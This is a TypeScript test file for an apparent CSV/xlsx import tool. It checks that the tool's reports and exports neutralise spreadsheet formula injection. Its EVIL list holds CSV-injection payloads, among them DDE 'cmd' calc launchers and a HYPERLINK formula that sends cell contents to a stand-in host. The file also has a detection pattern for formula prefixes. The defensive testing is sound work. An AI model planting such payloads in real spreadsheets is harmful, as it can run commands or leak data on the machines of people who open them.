import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSource } from '../../src/files/open.js';
import { displayText } from '../../src/model/row.js';
import { type Desk, type Imported, openDesk } from '../support/desk.js';
import { importOf } from '../support/jobs.js';
import { partsOf } from './parts.js';

/** What a spreadsheet program would run, or what another delimiter or a line break would make it run. */
const EVIL = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1,2)',
  '+1+cmd()',
  '-1+cmd()',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋cmd()',
  '－cmd()',
  '＠cmd()',
  '"=1+1',
  "'=1+1",
  'x\n=1+1',
  "x;=cmd|' /C calc'!A0;",
  'x\t@cmd()\t',
  '=HYPERLINK("http://planted.example/?"&A1;"go")',
];
const HEADING = '=HYPERLINK("http://planted.example")';
const JOB = importOf('supplier', 'name', { Name: 'name', '@About': 'general_description', EIN: 'ein' });

/** Leading blanks and such make no difference to a program that opens a text file. */
const harmful = (cell: string): boolean => {
  const bare = cell.replace(/^[\s\u200b\ufeff]+/u, '');
  return /^[=@＝＠\t\r]/u.test(bare) || (/^[+\-－＋]/u.test(bare) && /[a-z|(]/iu.test(bare.split(/[;,\t]/)[0] ?? ''));
};

/** Cells as the report's own form has them, and as a program has them that opens it with another delimiter. */
function cellsOf(text: string): string[] {
  const own = parse(text, { bom: true, relax_column_count: true }).flat();
  const others = [';', '\t'].flatMap((delimiter) =>
    parse(text, { bom: true, delimiter, relax_quotes: true, relax_column_count: true, quote: null }).flat(),
  );
  return [...own, ...others].map((cell) => String(cell).replace(/^"(?!")|"$/g, ''));
}

let desk: Desk;
let run: Imported;
let night: Imported;
beforeAll(async () => {
  desk = await openDesk();
  const name = (text: string, i: number) => `${text.replace(/\n/g, ' ').slice(0, 40)} ${i}`;
  const good = EVIL.map((text, i) => [name(text, i), text, '123456789', text]);
  const bad = EVIL.map((text, i) => [name(text, i + 100), text, text, text]);
  const heading = ['Name', '@About', 'EIN', HEADING];
  await desk.import(await desk.file('first.csv', [heading, ...good]), JOB);
  const changed = good.map((cells) => cells.with(1, `${cells[1]} changed`));
  run = await desk.import(await desk.file('second.csv', [heading, ...changed, ...bad]), JOB, { force: true });
  night = await desk.reconcile(await desk.file('third.csv', [heading, ...good.slice(1)]), {
    ...JOB,
    kind: 'reconcile',
    orphans: { action: 'report' },
  });
});
afterAll(() => desk.close());

describe('formulas in what rowferry writes', () => {
  it('are in no CSV report a cell that would run, however it is opened (77)', async () => {
    expect(run.summary.rows).toMatchObject({ updated: EVIL.length, invalid: EVIL.length });
    let seen = 0;
    for (const dir of [run.reportDir, night.reportDir]) {
      for (const name of (await readdir(dir)).filter((one) => one.endsWith('.csv'))) {
        const text = await readFile(join(dir, name), 'utf8');
        expect(`${name}: ${cellsOf(text).filter(harmful).join(' ¦ ')}`).toBe(`${name}: `);
        if (text.includes('1+1')) seen++;
      }
    }
    // rejected, results, faults, plan of the import; results, plan and differences of the night.
    expect(seen).toBeGreaterThanOrEqual(6);
  });

  it('are text in workbooks, and their marks for editing are set (77)', async () => {
    const exported = await desk.export('supplier', 'out.xlsx', { editable: true });
    const books = [exported.file, join(night.reportDir, 'reconcile.xlsx')];
    for (const path of books) {
      const parts = await partsOf(path);
      const sheets = parts.filter(([name]) => name.startsWith('xl/worksheets/sheet')).map(([, xml]) => xml);
      expect(sheets.join()).toContain('cmd|');
      // A formula of ours links two sheets of one workbook; none has a cell's text in it.
      const formulas = sheets.join().match(/<f[ >][^<]*/g) ?? [];
      expect(formulas.filter((one) => /cmd|1\+1|planted/.test(one))).toEqual([]);
      expect(parts.filter(([name]) => /externalLink|ddeLink|connections/.test(name))).toEqual([]);
    }
  });

  it('and markup are text in the page, which asks the network for nothing (77)', async () => {
    for (const dir of [run.reportDir, night.reportDir]) {
      const page = await readFile(join(dir, 'report.html'), 'utf8');
      expect(page).not.toMatch(/href="(?!#|[\w.-]+")/);
      expect(page).not.toMatch(/<script|<img|<iframe|<link/i);
    }
  });

  it.each(['out.csv', 'out.xlsx', 'out.ndjson'])('are read back as they were from %s (77)', async (name) => {
    const exported = await desk.export('supplier', name);
    const again = await desk.import(exported.file, {
      ...JOB,
      columns: { name: 'name', general_description: 'general_description', ein: 'ein' },
    });
    expect(again.faults).toEqual([]);
    expect(again.summary.rows).toMatchObject({ total: EVIL.length, unchanged: EVIL.length });
  });

  it('are read back as they were from rejected.csv: same columns, same cells (77)', async () => {
    const read = async (path: string) => {
      const source = await openSource(path);
      const rows: string[][] = [];
      for await (const batch of source.rows())
        for (const { cells } of batch) rows.push(cells.map((cell) => displayText(cell)));
      return { headings: source.meta.headings, rows };
    };
    const rejected = await read(join(run.reportDir, 'rejected.csv'));
    const given = await read(join(desk.dir, 'second.csv'));
    expect(rejected.headings.slice(0, 4)).toEqual(given.headings);
    expect(rejected.rows.map((cells) => cells.slice(0, 4))).toEqual(given.rows.slice(EVIL.length));
  });
});
